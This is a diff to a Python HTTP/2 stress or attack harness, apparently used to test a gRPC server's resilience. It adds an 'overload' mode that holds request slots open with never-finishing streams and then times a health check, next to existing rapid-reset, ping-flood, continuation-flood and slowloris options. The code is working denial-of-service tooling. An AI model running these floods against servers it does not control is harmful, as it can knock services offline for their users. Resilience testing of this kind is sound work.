@@ -22,6 +22,10 @@ Attacks:
                   frames of header bytes that never end (the 2024 class).
   slowloris       open as many streams as the server allows and send
                   nothing more on them until --seconds pass.
+  overload        open --count streams whose requests never finish (each
+                  holds one of the connection's request slots), then send
+                  one complete health check on the same connection and
+                  report how it was answered and how fast.
 """
 
 import argparse
@@ -57,7 +61,8 @@ def main():
     p.add_argument("--key", required=True)
     p.add_argument("--attack", required=True,
                    choices=["made_you_reset", "zero_window", "rapid_reset", "ping_flood",
-                            "settings_flood", "continuation_flood", "slowloris"])
+                            "settings_flood", "continuation_flood", "slowloris",
+                            "overload"])
     p.add_argument("--count", type=int, default=5000)
     p.add_argument("--seconds", type=float, default=20.0)
     a = p.parse_args()
@@ -161,6 +166,51 @@ def main():
             if not pump():
                 break
         out["open_streams"] = conn.open_outbound_streams
+        json.dump(out, sys.stdout)
+        print()
+        return
+    if a.attack == "overload":
+        for _ in range(a.count):
+            if not room():
+                break
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, headers, end_stream=False)
+            if not send(conn.data_to_send()):
+                break
+            out["sent"] += 1
+            pump()
+        # Let the server start them all, then ask once more.
+        settle = time.monotonic() + 0.5
+        while time.monotonic() < settle and pump():
+            time.sleep(0.01)
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(sid, headers, end_stream=False)
+        conn.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
+        asked = time.monotonic()
+        send(conn.data_to_send())
+        answer = {}
+        while time.monotonic() < deadline and "grpc-status" not in answer:
+            try:
+                data = sock.recv(65536)
+            except (ssl.SSLWantReadError, BlockingIOError):
+                time.sleep(0.005)
+                continue
+            except (ConnectionError, ssl.SSLError, OSError):
+                break
+            if not data:
+                break
+            for e in conn.receive_data(data):
+                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)) \
+                        and e.stream_id == sid:
+                    for k, v in e.headers:
+                        k = k.decode() if isinstance(k, bytes) else k
+                        v = v.decode() if isinstance(v, bytes) else v
+                        answer[k] = v
+            pending = conn.data_to_send()
+            if pending:
+                send(pending)
+        out["answer"] = answer
+        out["answered_after_ms"] = int((time.monotonic() - asked) * 1000)
         json.dump(out, sys.stdout)
         print()
         return
